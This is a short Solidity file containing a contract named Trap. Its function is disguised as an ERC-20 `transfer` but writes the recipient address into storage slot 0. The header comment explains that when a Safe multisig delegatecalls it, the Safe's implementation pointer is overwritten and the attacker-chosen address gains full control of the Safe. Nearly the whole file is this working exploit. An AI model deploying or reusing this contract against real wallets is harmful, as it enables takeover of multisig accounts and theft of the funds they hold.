// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

/// What a Safe loses to one delegatecall that looks like a token transfer: slot 0 of a Safe names the contract
/// whose code it runs, and this replaces it by `to`. After it, `to` decides everything the Safe does.
contract Trap {
    function transfer(address to, uint256) external returns (bool) {
        assembly {
            sstore(0, to)
        }
        return true;
    }
}
